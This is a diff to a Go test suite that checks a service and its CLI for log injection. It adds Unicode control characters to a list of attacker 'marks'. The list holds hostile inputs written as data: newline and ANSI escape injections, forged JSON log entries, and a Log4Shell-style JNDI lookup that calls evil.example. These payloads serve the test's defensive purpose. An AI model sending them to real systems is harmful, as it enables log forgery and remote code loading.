@@ -129,7 +129,7 @@ func drain(t *testing.T, s *site) {
 }
 
 // marks are what an attacker would like to see at the start of a line of the log, or of a terminal.
-var marks = []string{"\n", "\r", "\r\n", "\x00", "\x1b[2J\x1b[31m", "\u2028", "\u0085", "\x0b", "\\n", "%0a", "%0d%0a", "%1b[31m", "\"}\n{\"level\":\"INFO\",\"msg\":\"", "${jndi:ldap://evil.example}"}
+var marks = []string{"\n", "\r", "\r\n", "\x00", "\x1b[2J\x1b[31m", "\u2028", "\u202e", "\u0085", "\x0b", "\\n", "%0a", "%0d%0a", "%1b[31m", "\"}\n{\"level\":\"INFO\",\"msg\":\"", "${jndi:ldap://evil.example}"}
 
 func logInjection(t *testing.T, s *site) {
 	s.each(t, func(t *testing.T, p *process) {
@@ -144,6 +144,7 @@ func logInjection(t *testing.T, s *site) {
 			}
 			w(request("GET", "/open/"+forged))
 			w(request("GET", "/open/x?"+forged))
+			w(request("GET", "/open/unasked/x"))
 			w(request("GET", "/guarded/forged"+mark+"forged"))
 			w(request("GET", "/open/x", "User-Agent: "+forged, "Referer: "+forged, "X-Request-Id: "+forged, "X-Forwarded-For: "+forged, "Traceparent: "+forged))
 			w(request("GET", "/guarded/x", "Authorization: Bearer "+forged))
@@ -173,7 +174,7 @@ func logInjection(t *testing.T, s *site) {
 	}
 	for _, list := range [][]string{{"key", "list", "--database-url=" + s.db, email}, {"audit", "--database-url=" + s.db, "--limit=1000"}} {
 		for line := range strings.Lines(must(t, "", list...)) {
-			if strings.HasPrefix(strings.TrimSpace(line), "forged") || strings.HasPrefix(line, "{") || strings.ContainsAny(line, "\x1b\r\x00\x0b") {
+			if strings.HasPrefix(strings.TrimSpace(line), "forged") || strings.HasPrefix(line, "{") || strings.ContainsAny(line, "\x1b\r\x00\x0b\u2028\u202e") {
 				t.Errorf("gate %s says %q", list[0], line)
 			}
 		}
